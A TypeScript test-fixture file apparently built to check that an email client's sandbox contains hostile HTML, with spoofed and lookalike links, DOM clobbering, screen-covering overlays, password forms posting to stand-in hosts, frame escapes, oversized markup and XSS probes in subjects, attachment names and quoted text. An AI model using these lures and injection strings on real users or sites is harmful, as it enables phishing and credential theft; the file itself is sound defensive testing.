import type { WrittenMail } from '#sandbox/dataset/written.ts'

const mail = (subject: string, html: string | (() => string), more: Partial<WrittenMail> = {}): WrittenMail => ({
  subject,
  text: `${subject}.`,
  ...more,
  html: typeof html === 'string' ? () => html : html,
})

/** Links whose text says one thing and whose address another, and addresses nobody should follow. */
export const spoofedLinks: readonly WrittenMail[] = [
  mail(
    'Text names another site',
    '<p>Please sign in at <a href="https://harbourline-login.example/session">https://app.close.com/login</a>.</p>',
  ),
  mail('A name before the @', '<p><a href="https://app.close.com@beacon.invalid/login">Sign in</a></p>'),
  mail(
    'Letters that look alike',
    '<p><a href="https://\u0430pp.close.example/">app.close.example</a> and <a href="https://xn--pple-43d.example/">apple.example</a></p>',
  ),
  mail(
    'Text turned around',
    '<p><a href="https://beacon.invalid/moc.esolc.ppa">https://beacon.invalid/\u202Emoc.esolc.ppa</a></p>',
  ),
  mail(
    'A number for a name',
    '<p><a href="http://203.0.113.9/invoice">Invoice</a> and <a href="http://[2001:db8::1]/">the portal</a></p>',
  ),
  mail(
    'Two slashes',
    '<p><a href="//beacon.invalid/portal">Portal</a> and <a href="/api/v1/me/">Me</a> and <a href="https:beacon.invalid">Scheme only</a></p>',
  ),
  mail('Backslashes', '<p><a href="https:\\\\beacon.invalid\\app.close.com">app.close.com</a></p>'),
  mail(
    'Another address',
    '<p>Write to <a href="mailto:collect@beacon.invalid?cc=all@beacon.invalid">accounts@harbourline.example</a> or call <a href="tel:+12025550199">our office</a></p>',
  ),
  mail(
    'Spaces and tabs in front',
    '<p><a href=" \t\n https://beacon.invalid/space ">https://harbourline.example/</a></p>',
  ),
  mail(
    'Programs',
    '<p><a href="ms-word:ofe|u|https://beacon.invalid/x.docx">Contract</a> <a href="file:///etc/passwd">File</a> <a href="intent://scan#Intent;end">App</a> <a href="ftp://beacon.invalid/">Server</a></p>',
  ),
  mail(
    'Everything is a link',
    '<a href="https://beacon.invalid/all" style="display:block;position:fixed;inset:0">&nbsp;</a><p>Press anywhere.</p>',
  ),
  mail(
    'A very long address',
    () =>
      `<p><a href="https://app.close.com.${'long-'.repeat(12)}.beacon.invalid/${'a'.repeat(9000)}">app.close.com</a></p>`,
  ),
]

/** Names that stand in for what a script looks up. */
export const clobbering: readonly WrittenMail[] = [
  mail(
    'Names of the document',
    '<img name="body" id="body"><form name="documentElement" id="documentElement"></form><img name="querySelectorAll"><img name="adoptNode"><p>text</p>',
  ),
  mail(
    'Names of a form’s own',
    '<form id="f"><input name="attributes"><input name="childNodes"><input name="parentNode"><input name="nodeName"><input name="remove"></form><p>text</p>',
  ),
  mail('Nested forms', '<form><form><input name="action"><input id="submit"></form><p>text</p>'),
  mail(
    'Names of the window',
    '<a id="parent"></a><a id="location" href="https://beacon.invalid/location"></a><a id="postMessage"></a><a id="trustedTypes"></a><iframe name="alert"></iframe><p>text</p>',
  ),
  mail(
    'Collections',
    '<a id="x"></a><a id="x" name="y" href="https://beacon.invalid/y">one</a><form id="g"><output id="h">z</output></form>',
  ),
  mail(
    'Prototypes',
    '<img name="__proto__"><a id="constructor"></a><a id="prototype"></a><input name="hasOwnProperty"><p>text</p>',
  ),
  mail(
    'Classes and roles of ours',
    '<div class="fixed inset-0 z-50 bg-surface" role="dialog" aria-modal="true" aria-label="Connect to Close"><p>API key</p><input type="password"></div>',
  ),
]

/** Styles that would hide, cover, move or slow what is around them. */
export const overlays: readonly WrittenMail[] = [
  mail(
    'Over everything',
    '<div style="position:fixed;inset:0;z-index:2147483647;background:#c00;color:#fff">Your session has ended. Sign in again.</div>',
  ),
  mail(
    'A million pixels tall',
    '<div style="height:1000000px;background:linear-gradient(#fff,#ccc)">top</div><p>bottom</p>',
  ),
  mail('A million pixels wide', '<div style="width:1000000px;background:#eee">left</div>'),
  mail(
    'Outside its box',
    '<div style="position:absolute;top:-5000px;left:-5000px;width:20000px;height:20000px;background:#fc0">outside</div>',
  ),
  mail('Nothing is shown', '<style>*{display:none!important}</style><p>You cannot see this.</p>'),
  mail('Grows as it is given room', '<div style="min-height:150vh;background:#eef">grows</div>'),
  mail(
    'Endless movement',
    '<style>@keyframes m{from{height:10px}to{height:4000px}}div{animation:m .2s infinite alternate;background:#def}</style><div>moving</div>',
  ),
  mail('Huge letters', '<p style="font-size:9000px">A</p>'),
  mail('Blurred and turned', '<div style="filter:blur(40px);transform:rotate(1turn) scale(200)">turned</div>'),
  mail(
    'A pointer of nothing',
    '<style>*{cursor:none!important;user-select:none!important;pointer-events:none!important}</style><p>Where is the pointer?</p>',
  ),
  mail(
    'Our own paper',
    '<style>html,body{color-scheme:dark!important;background:transparent!important;color:transparent!important}</style><p>Ink without colour</p>',
  ),
  mail(
    'Many shadows',
    () =>
      `<p style="box-shadow:${Array.from({ length: 400 }, (_, i) => `${i}px ${i}px 90px #0003`).join(',')}">shadow</p>`,
  ),
  mail(
    'Print and size queries',
    '<style>@media (min-width:1px){p{position:fixed;top:0}}@media print{body{display:none}}</style><p>fixed</p>',
  ),
]

/** Forms that ask for what nobody should give. */
export const forms: readonly WrittenMail[] = [
  mail(
    'A login',
    '<form action="https://beacon.invalid/login" method="post"><label>Password <input type="password" name="p"></label><button>Sign in</button></form>',
  ),
  mail(
    'A form that sends itself',
    '<form id="s" action="https://beacon.invalid/self"><input name="q" value="x"></form><script>document.forms[0].submit()</script>',
  ),
  mail(
    'A form to our own server',
    '<form action="/api/v1/activity/" method="get"><input name="_limit" value="1"><input type="submit"></form>',
  ),
  mail(
    'A form that writes mail',
    '<form action="mailto:collect@beacon.invalid" enctype="text/plain"><textarea name="t">secret</textarea><input type="submit" value="Send"></form>',
  ),
  mail(
    'Buttons of other forms',
    '<button form="x" formaction="https://beacon.invalid/button" formtarget="_top">Continue</button><form id="x"></form>',
  ),
  mail(
    'A file, please',
    '<input type="file" multiple><input type="color"><input type="date"><datalist id="d"><option value="x"></datalist><input list="d">',
  ),
  mail(
    'Filled in by the browser',
    '<form action="https://beacon.invalid/fill"><input autocomplete="username" style="opacity:0"><input type="password" autocomplete="current-password" style="opacity:0"></form>',
  ),
]

/** Ways out of the frame. */
export const wayOut: readonly WrittenMail[] = [
  mail('Refresh', '<meta http-equiv="refresh" content="0;url=https://beacon.invalid/refresh"><p>text</p>'),
  mail('Refresh to our own server', '<meta http-equiv="refresh" content="0;url=/sandbox/api/v1/me/"><p>text</p>'),
  mail(
    'A policy of its own',
    '<meta http-equiv="Content-Security-Policy" content="default-src *; script-src * \'unsafe-inline\'"><img src="https://beacon.invalid/policy" width="40" height="40"><script>alert("policy")</script>',
  ),
  mail(
    'Targets',
    '<base target="_top"><a href="https://beacon.invalid/top" target="_top">top</a> <a href="https://beacon.invalid/parent" target="_parent">parent</a>',
  ),
  mail(
    'Frames in the frame',
    '<iframe src="/" width="300"></iframe><iframe src="https://beacon.invalid/frame" width="300"></iframe><iframe srcdoc="<a target=_top href=https://beacon.invalid>x</a>"></iframe>',
  ),
  mail(
    'Our own server',
    '<img src="/api/v1/me/" width="40" height="40"><img src="sandbox/api/v1/me/" width="40" height="40"><p style="background:url(/favicon.svg)">own</p><link rel="stylesheet" href="/assets/x.css">',
  ),
  mail(
    'A client hint and a report',
    '<meta http-equiv="Accept-CH" content="Width"><meta name="referrer" content="unsafe-url"><meta http-equiv="Content-Security-Policy-Report-Only" content="default-src \'none\'; report-uri https://beacon.invalid/report"><img src="data:image/gif;base64,R0lGODlhAQABAIAAAAAAAP///yH5BAEAAAAALAAAAAABAAEAAAIBRAA7">',
  ),
]

const sentence = 'The quick terminal crane lifts forty lazy containers before noon. '

/** More than a browser should lay out at once. */
export const excesses: readonly WrittenMail[] = [
  mail('Five megabytes', () =>
    `<p>${sentence.repeat(20)}</p>`.repeat(Math.ceil(5_000_000 / (20 * sentence.length + 7))),
  ),
  mail('A hundred thousand nested tags', () => `${'<div>'.repeat(100_000)}deep${'</div>'.repeat(100_000)}`),
  mail('Nested as deep as is drawn', () => `${'<div style="padding:1px">'.repeat(480)}deep${'</div>'.repeat(480)}`),
  mail('Nested tables', () => `${'<table border="1"><tr><td>'.repeat(240)}deep${'</td></tr></table>'.repeat(240)}`),
  mail('A table of ten thousand columns', () => `<table><tr>${'<td>x</td>'.repeat(10_000)}</tr></table>`),
  mail('Tags that never end', () => '<b><i><u>'.repeat(20_000)),
  mail('One word of a hundred thousand letters', () => `<p>${'a'.repeat(100_000)}</p>`),
  mail(
    'Many attributes',
    () => `<p ${Array.from({ length: 5000 }, (_, i) => `data-${i}="${i}"`).join(' ')}>attributes</p>`,
  ),
  mail('A million less-than signs', () => '<'.repeat(1_000_000)),
  mail('Only comments', () => '<!-- nothing -->'.repeat(30_000)),
]

/** Markup where text belongs. */
export const inOtherPlaces: readonly WrittenMail[] = [
  mail('<img src=x: onerror=alert("subject")>', '<p>Look at the subject.</p>'),
  mail('"><script>alert("subject")</script>', '<p>Look at the subject.</p>', {
    text: '<script>alert("text")</script>',
  }),
  mail('File names', '<p>See <img src="cid:logo@hostile" alt="logo"></p>', {
    attachments: [
      { filename: '<img src=x: onerror=alert("file")>.pdf', size: 1200, contentType: 'application/pdf' },
      {
        filename: '"><svg onload=alert("file")>.png',
        size: 64_000,
        contentType: 'image/png',
        contentId: '<logo@hostile>',
        url: 'javascript:alert("url")',
      },
      { filename: 'invoice\u202Efdp.exe', size: 9, contentType: 'application/pdf' },
    ],
  }),
  mail(
    'Attached pictures that are none',
    '<img src="cid:a"><img src="cid:../../me"><img src="cid:%22%3E%3Cscript%3E">',
    {
      attachments: [
        {
          filename: 'a.svg',
          size: 80,
          contentType: 'image/svg+xml',
          contentId: 'a',
          url: 'data:image/svg+xml,<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>',
        },
      ],
    },
  ),
  mail('Quoted parts', '<p>Answer above, trouble below.</p>', {
    quoted: [
      '<blockquote><img src=x: onerror=alert("quoted")><script>alert("quoted")</script>quoted',
      '</blockquote><div style="position:fixed;inset:0">over</div>',
    ],
  }),
  mail('Nothing at all', '<!doctype html><html><head><style></style></head><body>  \n </body></html>'),
]
